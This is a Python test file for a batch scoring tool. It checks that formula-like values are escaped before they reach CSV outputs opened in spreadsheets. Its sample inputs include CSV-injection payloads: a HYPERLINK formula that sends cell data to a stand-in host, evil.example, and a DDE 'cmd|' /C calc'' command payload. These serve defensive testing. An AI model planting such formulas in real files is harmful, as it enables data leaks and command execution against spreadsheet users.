"""The batch's CSV files (``--csv`` scores and the rejects) are opened in spreadsheets by people: no
cell of them may run as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np

from batch import BatchOptions, OutputPaths, score_manifest
from tests.conftest import TinyModel, TinyRegistry
from tests.factories import make_declarations

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1")


def test_no_cell_of_the_scores_csv_or_the_rejects_csv_starts_a_formula(tiny_model: TinyModel, tmp_path: Path) -> None:
    """A declaration id of ``=HYPERLINK(…)`` reached ``scores.csv`` as a live formula, and a rejected value
    (``@SUM(…)`` in a number column) the rejects CSV; both are now written with a leading ``'``. The
    Parquet output keeps the values as they were."""
    frame = make_declarations(np.random.default_rng(3), 40, start="2023-06-01", days=10)
    frame["declaration_id"] = frame["declaration_id"].astype(object)
    frame.loc[:3, "declaration_id"] = list(FORMULAS)
    frame = frame.astype({"customs_value": object})
    frame.loc[10, "customs_value"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    manifest = tmp_path / "m.csv"
    frame.to_csv(manifest, index=False)
    out = tmp_path / "scores.parquet"
    score_manifest(manifest, out, "models:/tiny/1",
                   BatchOptions(capacity="10%", random_share=0.2, seed=1, chunk_rows=100, pipelined=False,
                                write_csv=True),
                   load_model=TinyRegistry("tiny", tiny_model.model).load)
    paths = OutputPaths(out)
    scores = list(csv.DictReader(paths.csv.open(encoding="utf-8")))
    rejects = list(csv.DictReader(paths.rejects.open(encoding="utf-8")))
    assert rejects and any(r["value"].endswith("calc'!A0") for r in rejects)
    for name, rows in (("scores", scores), ("rejects", rejects)):
        for row in rows:
            for column, value in row.items():
                assert value[:1] not in ("=", "+", "@") and not value.startswith("-1+"), (name, column, value)
    assert {"'" + f for f in FORMULAS} <= {r["declaration_id"] for r in scores}
    import pyarrow.parquet as pq

    assert set(FORMULAS) <= set(pq.read_table(out, columns=["declaration_id"]).column(0).to_pylist())


def test_the_report_tables_and_the_profile_stats_csv_keep_text_from_running_as_a_formula(tmp_path: Path) -> None:
    """A country or a profile name of ``=HYPERLINK(…)`` reached the trend report's tables and
    ``profile_stats.csv`` as a live formula (the JSON files keep the values as they are)."""
    import pandas as pd

    from features.io import spreadsheet_frame
    from reports._write import write_tables

    table = pd.DataFrame({"name": list(FORMULAS) + ["plain"], "hits": [1, -2, 3, 4, 5]})
    written = write_tables({"t": table}, tmp_path)
    with open(written["tables/t.csv"], newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain"]
    assert [r["hits"] for r in rows] == ["1", "-2", "3", "4", "5"]  # numbers stay numbers
    assert pd.read_json(written["tables/t.json"])["name"].tolist() == [*FORMULAS, "plain"]
    assert spreadsheet_frame(table)["name"].tolist() == [r["name"] for r in rows]
    assert table["name"].tolist() == [*FORMULAS, "plain"]  # the frame given is left as it was
